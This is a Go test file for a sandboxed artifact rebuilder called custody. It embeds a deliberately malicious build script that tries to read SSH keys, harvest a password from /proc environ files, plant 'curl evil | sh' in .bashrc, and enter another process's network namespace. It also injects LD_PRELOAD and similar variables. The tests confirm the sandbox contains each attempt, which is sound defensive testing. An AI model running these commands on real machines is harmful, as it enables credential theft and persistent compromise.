package rebuild

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/custody-dev/custody/attest"
	"github.com/custody-dev/custody/internal/build"
	"github.com/custody-dev/custody/internal/sandbox/sandboxtest"
)

// A malicious builder's recorded command, run by a rebuilder: everything
// issue 18 items 1, 2, 3 and 6 found it could do. Each attempt that works
// leaves a LEAK line in the clone's out/leaks.txt (read back through the
// rebuild's own output) or changes the fake home.
const evilBuild = `#!/bin/sh
# targets: the rebuilder's home, custody's PID, the shipped artifact's sha256
. ./targets
mkdir -p out
leak() { echo "LEAK: $*" >> out/leaks.txt; }
cat "$VICTIM_HOME/.ssh/id_ed25519" >/dev/null 2>&1 && leak "read ~/.ssh"
cp "$VICTIM_HOME/rebuilder.key" out/ 2>/dev/null && leak "copied the key file"
echo 'curl evil | sh' >> "$VICTIM_HOME/.bashrc" 2>/dev/null && leak "edited ~/.bashrc"
grep -q s3cret "/proc/$CUSTODY_PID/environ" 2>/dev/null && leak "read CUSTODY_PASSWORD from /proc"
for e in /proc/[0-9]*/environ; do grep -q s3cret "$e" 2>/dev/null && leak "password in $e"; done
nsenter --net="/proc/$CUSTODY_PID/ns/net" true 2>/dev/null && leak "entered custody's network namespace"
test -S "$VICTIM_HOME/agent.sock" && leak "sees the rebuilder's sockets"
env | grep -q -e LD_PRELOAD -e BASH_ENV -e NODE_OPTIONS -e GIT_CONFIG_GLOBAL -e toolexec && leak "replayed a dangerous variable"
env | grep -q s3cret && leak "custody's password in the environment"
# item 2: find the shipped (backdoored) artifact by its digest and copy it in
for f in $(find "$VICTIM_HOME" "$SHIPPED_DIR" -type f 2>/dev/null); do
	if [ "$(sha256sum "$f" | cut -d' ' -f1)" = "$SHIPPED_SHA" ]; then cp "$f" out/app; leak "found the shipped artifact"; fi
done
# outlive the rebuild
setsid sleep "$SLEEP_MARKER" </dev/null >/dev/null 2>&1 &
echo "CONTROL: the script ran" >> out/leaks.txt
`

type evilSetup struct {
	repo, home, shipped, marker string
	plan                        *Plan
}

// setupEvil makes a fake rebuilder home, a shipped backdoored artifact,
// and a repository whose recorded build is evilBuild.
func setupEvil(t *testing.T) *evilSetup {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	t.Setenv("CUSTODY_PASSWORD", "s3cret-password")
	dir := t.TempDir()
	e := &evilSetup{repo: filepath.Join(dir, "repo"), home: filepath.Join(dir, "home"), shipped: filepath.Join(dir, "shipped")}
	for name, body := range map[string]string{
		"home/.ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----", "home/rebuilder.key": "encrypted", "home/.bashrc": "# rc\n",
		"shipped/app": "backdoored binary",
	} {
		p := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(p), 0o700)
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	sum := sha256.Sum256([]byte("backdoored binary"))
	shippedSHA := hex.EncodeToString(sum[:])
	e.marker = fmt.Sprintf("300.%d%d", os.Getpid(), time.Now().UnixNano()%1e6)
	targets := fmt.Sprintf("VICTIM_HOME=%s\nCUSTODY_PID=%d\nSHIPPED_SHA=%s\nSHIPPED_DIR=%s\nSLEEP_MARKER=%s\n",
		e.home, os.Getpid(), shippedSHA, e.shipped, e.marker)
	os.MkdirAll(e.repo, 0o755)
	os.WriteFile(filepath.Join(e.repo, "build.sh"), []byte(evilBuild), 0o755)
	os.WriteFile(filepath.Join(e.repo, "targets"), []byte(targets), 0o644)
	// item 3: an output directory and a working directory symlinked out
	os.Symlink(e.shipped, filepath.Join(e.repo, "dist"))
	os.Symlink("/proc/self/cwd", filepath.Join(e.repo, "wd"))
	commit := gitCommitAll(t, e.repo)
	e.plan = &Plan{
		Subjects:  []attest.Subject{{Name: "app", Digest: map[string]string{"sha256": shippedSHA}}},
		SourceURI: "git+file://" + e.repo, SourceCommit: commit,
		Command: []string{"sh", "build.sh"}, WorkingDir: ".",
		// item 6: what the builder recorded besides the command
		Environment: map[string]string{
			"LD_PRELOAD": "/tmp/evil.so", "BASH_ENV": "/tmp/evil.sh", "NODE_OPTIONS": "--require /tmp/evil.js",
			"GIT_CONFIG_GLOBAL": "/tmp/evil", "GOFLAGS": "-toolexec=/tmp/evil", "SOURCE_DATE_EPOCH": "1",
		},
	}
	return e
}

func gitCommitAll(t *testing.T, repo string) string {
	t.Helper()
	run := func(args ...string) string {
		cmd := exec.Command("git", append([]string{"-C", repo, "-c", "user.name=t", "-c", "user.email=t@e", "-c", "commit.gpgsign=false"}, args...)...)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v: %s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	run("init", "-q", "-b", "main")
	run("add", ".")
	run("commit", "-q", "-m", "init")
	return run("rev-parse", "HEAD")
}

// TestRunMalicious replays the malicious build: the rebuild completes, its
// outputs and the fake home show that nothing of the attack worked, the
// shipped artifact is not taken for a rebuilt one (not through its digest,
// not through the symlinked dist/), the dangerous variables are refused
// and named, and no process outlives the rebuild.
func TestRunMalicious(t *testing.T) {
	e := setupEvil(t)
	var log strings.Builder
	var built string
	res, err := Run(context.Background(), e.plan, Options{Stdout: &log, Stderr: &log,
		Progress: func(stage, _ string) {
			if stage == "compare" {
				// the clone is gone when Run returns: read the leaks now
				matches, _ := filepath.Glob(filepath.Join(os.TempDir(), "custody-rebuild-*", "src", "out", "leaks.txt"))
				for _, m := range matches {
					b, _ := os.ReadFile(m)
					built += string(b)
				}
			}
		}})
	if errors.Is(err, build.ErrHermeticUnavailable) && os.Getenv("CUSTODY_TEST_SANDBOX") != "1" {
		t.Skip(err)
	}
	if err != nil {
		t.Fatalf("rebuild: %v\n%s", err, log.String())
	}
	if !strings.Contains(built, "CONTROL") {
		t.Fatalf("the malicious script's report was not read: %q\n%s", built, log.String())
	}
	if strings.Contains(built, "LEAK") {
		t.Errorf("the recorded command reached the rebuilder's machine:\n%s", built)
	}
	if res.Matched || res.Subjects[0].Status == attest.RebuildMatch {
		t.Errorf("the shipped artifact was taken for a rebuilt one: %+v", res.Subjects)
	}
	if b, _ := os.ReadFile(filepath.Join(e.home, ".bashrc")); string(b) != "# rc\n" {
		t.Errorf(".bashrc changed: %q", b)
	}
	refused := strings.Join(res.RefusedEnvironment, "\n")
	for _, name := range []string{"LD_PRELOAD", "BASH_ENV", "NODE_OPTIONS", "GIT_CONFIG_GLOBAL", "GOFLAGS"} {
		if !strings.Contains(refused, name+":") {
			t.Errorf("%s not named as refused: %q", name, res.RefusedEnvironment)
		}
	}
	if strings.Contains(refused, "/tmp/evil") {
		t.Errorf("refusals quote values: %q", res.RefusedEnvironment)
	}
	if res.Sandbox == "" {
		t.Error("the result does not name the sandbox")
	}
	if survivor(e.marker) {
		t.Error("a process of the rebuild outlived it")
	}

	// item 3: a working directory symlinked outside the clone is refused.
	e.plan.WorkingDir = "wd"
	if _, err := Run(context.Background(), e.plan, Options{}); err == nil || !strings.Contains(err.Error(), "leaves the source tree") {
		t.Errorf("symlinked working directory: %v", err)
	}
	// item 3: the command true, a dist/ symlinked to the shipped artifact's
	// directory: nothing the rebuild wrote, so nothing matches.
	e.plan.WorkingDir = "."
	e.plan.Command = []string{"true"}
	e.plan.Environment = nil
	res, err = Run(context.Background(), e.plan, Options{OutDir: "dist"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Matched || res.Subjects[0].Status != attest.RebuildMissing {
		t.Errorf("command true with a symlinked dist/: %+v", res.Subjects)
	}
}

// survivor reports whether "sleep MARKER" is running.
func survivor(marker string) bool {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline"); err == nil && string(b) == "sleep\x00"+marker+"\x00" {
			return true
		}
	}
	return false
}

// TestRunMaliciousUnprivileged runs TestRunMalicious again as nobody
// (setpriv): a rebuilder that is not root is contained the same way.
func TestRunMaliciousUnprivileged(t *testing.T) {
	sandboxtest.RerunAsNobody(t, "^TestRunMalicious$", "TestRunMalicious")
}

// TestDiffoscopeSandboxed: issue 18 item 3. An output that is a symlink to
// custody's environment is not read (missing, no diffoscope); a real
// mismatch gets diffoscope's report, made in the sandbox on copies of the
// two files, which says nothing but their differences.
func TestDiffoscopeSandboxed(t *testing.T) {
	bin, err := exec.LookPath("diffoscope")
	if err != nil {
		t.Skip("diffoscope not installed")
	}
	t.Setenv("CUSTODY_PASSWORD", "s3cret-password")
	dir := t.TempDir()
	repo := filepath.Join(dir, "repo")
	os.MkdirAll(repo, 0o755)
	os.WriteFile(filepath.Join(repo, "build.sh"), []byte("mkdir -p out\nprintf 'rebuilt line\\n' > out/app.txt\nln -s /proc/self/environ out/env.txt\n"), 0o644)
	commit := gitCommitAll(t, repo)
	orig := filepath.Join(dir, "app.txt")
	os.WriteFile(orig, []byte("original line\n"), 0o644)
	envOrig := filepath.Join(dir, "env.txt")
	os.WriteFile(envOrig, []byte("PATH=/bin\n"), 0o644)
	plan := &Plan{
		Subjects: []attest.Subject{
			{Name: "app.txt", Digest: map[string]string{"sha256": strings.Repeat("a", 64)}},
			{Name: "env.txt", Digest: map[string]string{"sha256": strings.Repeat("b", 64)}},
		},
		SourceURI: "git+file://" + repo, SourceCommit: commit, Command: []string{"sh", "build.sh"}, WorkingDir: ".",
	}
	res, err := Run(context.Background(), plan, Options{Diffoscope: bin, Originals: map[string]string{"app.txt": orig, "env.txt": envOrig}})
	if errors.Is(err, build.ErrHermeticUnavailable) && os.Getenv("CUSTODY_TEST_SANDBOX") != "1" {
		t.Skip(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	app, env := res.Subjects[0], res.Subjects[1]
	if app.Status != attest.RebuildMismatch || !strings.Contains(app.Diffoscope, "original line") || !strings.Contains(app.Diffoscope, "rebuilt line") {
		t.Errorf("app.txt: %s\n%s", app.Status, app.Diffoscope)
	}
	if env.Status != attest.RebuildMissing || env.Diffoscope != "" {
		t.Errorf("env.txt, a symlink to /proc/self/environ: %+v", env)
	}
	for _, r := range res.Subjects {
		if strings.Contains(r.Diffoscope, "s3cret") || strings.Contains(r.Diffoscope, dir) || strings.Contains(r.Diffoscope, os.TempDir()+"/custody-rebuild") {
			t.Errorf("diffoscope report of %s quotes something outside the outputs:\n%s", r.Name, r.Diffoscope)
		}
	}
}

// TestRebuildCacheReadOnly: a cache the rebuilder passes with --env is
// shown read-only, so the build being checked cannot poison it for the
// rebuilder's later builds.
func TestRebuildCacheReadOnly(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	cache := t.TempDir()
	t.Setenv("GOCACHE", cache)
	repo := filepath.Join(t.TempDir(), "repo")
	os.MkdirAll(repo, 0o755)
	os.WriteFile(filepath.Join(repo, "build.sh"), []byte("mkdir -p out\necho x > out/app\necho poison > \"$GOCACHE/entry\" || true\n"), 0o644)
	plan := &Plan{
		Subjects:  []attest.Subject{{Name: "app", Digest: map[string]string{"sha256": strings.Repeat("a", 64)}}},
		SourceURI: "git+file://" + repo, SourceCommit: gitCommitAll(t, repo), Command: []string{"sh", "build.sh"}, WorkingDir: ".",
	}
	_, err := Run(context.Background(), plan, Options{EnvAllow: []string{"GOCACHE"}})
	if errors.Is(err, build.ErrHermeticUnavailable) && os.Getenv("CUSTODY_TEST_SANDBOX") != "1" {
		t.Skip(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(cache, "entry")); err == nil {
		t.Fatal("the rebuild wrote the rebuilder's cache")
	}
}
